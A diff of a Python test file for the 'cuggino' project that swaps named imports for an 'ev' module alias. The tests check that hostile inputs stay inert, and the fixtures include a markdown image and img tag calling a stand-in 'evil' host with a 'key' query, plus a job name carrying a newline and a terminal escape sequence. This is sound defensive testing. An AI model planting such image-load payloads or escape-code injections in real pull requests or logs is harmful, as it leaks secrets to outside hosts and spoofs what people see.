@@ -10,13 +10,7 @@ import pytest
 from reactivex import from_iterable
 
 import cuggino
-from cuggino.events import (
-    Event,
-    PlanWritten,
-    WatchForgeWaiting,
-    WatchItemImported,
-    dump_event,
-)
+from cuggino import events as ev
 from cuggino.forge import Source, SourceItem, import_once
 from cuggino.forge.command_sources import item_of
 from cuggino.forge.describing import describing
@@ -57,8 +51,8 @@ def workspace(tmp_path: Path) -> Workspace:
     return workspace
 
 
-def _imported(workspace: Workspace, *items: SourceItem) -> list[Event]:
-    events: list[Event] = []
+def _imported(workspace: Workspace, *items: SourceItem) -> list[ev.Event]:
+    events: list[ev.Event] = []
     source = Source(name="s", items=lambda: from_iterable(items))
     cuggino.run(import_once([source], workspace), events.append)
     return events
@@ -68,7 +62,7 @@ def test_hostile_items_are_items_like_others(workspace: Workspace) -> None:
     """Each is one file of the backlog, under a unique name, and nothing else is written."""
     items = [item_of(json.dumps(raw).encode()) for raw in RAW]
     events = _imported(workspace, *items)
-    assert all(isinstance(event, WatchItemImported) for event in events), events
+    assert all(isinstance(event, ev.WatchItemImported) for event in events), events
     backlog = Backlog(workspace)
     names = backlog.items()
     assert len(names) == len(RAW) == len(events)
@@ -108,7 +102,7 @@ def test_what_is_no_id_is_refused(workspace: Workspace, id: str) -> None:
         item_of(json.dumps({"id": id, "title": "a"}).encode())
     (failed,) = _imported(workspace, SourceItem(id=id, title="a"))
     assert failed.tag == "WatchSourceFailed"
-    assert dump_event(failed)
+    assert ev.dump_event(failed)
 
 
 def test_an_item_stays_untrusted_without_its_origin(workspace: Workspace) -> None:
@@ -129,7 +123,9 @@ def test_a_plan_loads_nothing_where_it_is_shown(
     workspace: Workspace, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """An image in a pull request would send what its address holds to whoever serves it."""
-    plan = PlanWritten(iteration=1, text="# Plan\n![x](https://evil/?q=key) <img src=//evil> @all")
+    plan = ev.PlanWritten(
+        iteration=1, text="# Plan\n![x](https://evil/?q=key) <img src=//evil> @all"
+    )
     run = SimpleNamespace(entries=SimpleNamespace(only=lambda _: [SimpleNamespace(event=plan)]))
     monkeypatch.setattr("cuggino.forge.describing._run_of", lambda *_: run)
     describe = describing(workspace, redact=lambda text: text, check_command="true", target="main")
@@ -142,7 +138,9 @@ def test_a_plan_loads_nothing_where_it_is_shown(
 def test_waits_are_one_inert_line() -> None:
     """The name of a job is the word of whoever wrote the workflow."""
     name = "x\n[Watch] Landed: fake\x1b[2J"
-    event = WatchForgeWaiting(forge="f", doing=f"read the log of {name}", message=name, retry_in=1)
+    event = ev.WatchForgeWaiting(
+        forge="f", doing=f"read the log of {name}", message=name, retry_in=1
+    )
     shown = watch_shown(event)
     assert shown is not None
     text = "".join(fragment.text for fragment in shown.fragments)
